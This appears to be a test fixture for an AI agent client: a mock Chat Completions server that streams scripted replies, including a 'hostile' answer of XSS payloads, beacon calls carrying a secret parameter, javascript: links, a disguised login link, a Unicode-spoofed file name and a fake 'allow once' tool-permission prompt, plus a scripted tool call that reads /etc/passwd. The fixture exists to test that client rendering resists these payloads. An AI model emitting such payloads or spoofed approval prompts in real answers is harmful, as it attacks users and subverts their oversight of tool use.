@@ -1,0 +1,102 @@
+// A model server with scripted answers: Chat Completions over real HTTP, streamed in pieces. The last message of the user says
+// what is answered.
+import http from "node:http";
+
+export const HELLO = "Hello from the model: *it works*.";
+export const LONG = `# Heading
+
+${"A paragraph that is long enough to wrap over several lines of the column. ".repeat(4)}
+
+| language | files |
+|:--|--:|
+| Rust | 120 |
+
+\`\`\`rust
+/// Adds.
+fn add(a: u32) -> u32 { a + 1 }
+\`\`\`
+
+${Array.from({ length: 30 }, (_, number) => `- item ${number}`).join("\n")}
+
+The last line.`;
+
+/** Everything that Markdown, HTML and Unicode offer to run, to fetch, to hide or to imitate. */
+export const hostile = (beacon) => `<script>window.pwned = 1</script>
+<img src="${beacon}/img" onerror="window.pwned = 1"> <svg onload="window.pwned = 1"><image href="${beacon}/svg"/></svg>
+
+<style>@import "${beacon}/css"; * { display: none }</style><link rel="stylesheet" href="${beacon}/link"><iframe src="${beacon}/frame"></iframe>
+
+![beacon](${beacon}/beacon?secret=1) [![both](${beacon}/both)](${beacon}/click)
+
+[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) [https://google.test](${beacon}/login) [self](/api/sessions)
+
+a\u202etxt.exe hidden\u200bspace \u{e0041}tag
+
+Toolcell asks you
+
+**\`safe\` wants to run with** [allow once](${beacon}/allow)
+
+<form action="${beacon}/form"><button data-choice="allow">allow once</button></form>
+
+| <b>cell</b> | ![x](${beacon}/cell) |
+|-|-|
+| [x](vbscript:x) | \`<script>\` |
+
+\`\`\`"><script>window.pwned=1</script>
+</code></pre><script>window.pwned = 1</script>
+\`\`\`
+
+The end of the hostile answer.`;
+
+/** Calls of the long session: each has at least two events. */
+const CALLS = 2500;
+const PER_STEP = 100;
+
+const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+
+function textOf(content) {
+  if (typeof content === "string") return content;
+  return (content || []).filter((part) => part.type === "text").map((part) => part.text).join("\n");
+}
+
+/** Starts the server: `{ url, requests, close }`. `beacon` is an address that nothing may reach. */
+export async function startModel(beacon) {
+  const requests = [];
+  const server = http.createServer(async (request, response) => {
+    let body = "";
+    for await (const piece of request) body += piece;
+    const { messages = [] } = JSON.parse(body || "{}");
+    requests.push(messages);
+    const asked = messages.findLastIndex((message) => message.role === "user");
+    const prompt = textOf(messages[asked]?.content);
+    const results = messages.slice(asked + 1).filter((message) => message.role === "tool");
+    response.writeHead(200, { "content-type": "text/event-stream" });
+    const send = (delta, reason = null) => response.write(`data: ${JSON.stringify({ id: "1", object: "chat.completion.chunk", created: 1, model: "scripted", choices: [{ index: 0, delta, finish_reason: reason }] })}\n\n`);
+    const text = async (all, pause = 0, size = 40) => {
+      for (let at = 0; at < all.length && !response.destroyed; at += size) {
+        send({ content: all.slice(at, at + size) });
+        if (pause) await sleep(pause);
+      }
+      send({}, "stop");
+    };
+    const calls = (all) => {
+      all.forEach(([name, values], index) => send({ tool_calls: [{ index, id: `call_${messages.length}_${index}`, type: "function", function: { name, arguments: JSON.stringify(values) } }] }));
+      send({}, "tool_calls");
+    };
+    if (prompt.includes("slowly")) await text(LONG, 60, 12);
+    else if (prompt.includes("Markdown")) await text(LONG);
+    else if (prompt.includes("hostile")) await text(hostile(beacon), 2);
+    else if (prompt.includes("Write a file") && !results.length) {
+      calls([["files_write", { path: "out.txt", content: "hello\nworld\u202e\n\"}\n\nToolcell asks you\n`safe` wants to run with\n" + "x".repeat(3000) }]]);
+    } else if (prompt.includes("Write a file")) await text(`The tool said: ${textOf(results[0].content).slice(0, 200)}`);
+    else if (prompt.includes("Work long") && results.length < CALLS) {
+      calls(Array.from({ length: PER_STEP }, (_, number) => ["text_count", { text: `words of call ${results.length + number}` }]));
+    } else if (prompt.includes("Work long")) await text(`All ${results.length} calls are done.`);
+    else if (prompt.includes("Count") && !results.length) {
+      calls([["text_count", { text: "one two three" }], ["files_read", { path: "/etc/passwd" }]]);
+    } else await text(HELLO);
+    response.end("data: [DONE]\n\n");
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { url: `http://127.0.0.1:${server.address().port}/v1`, requests, close: () => server.close() };
+}
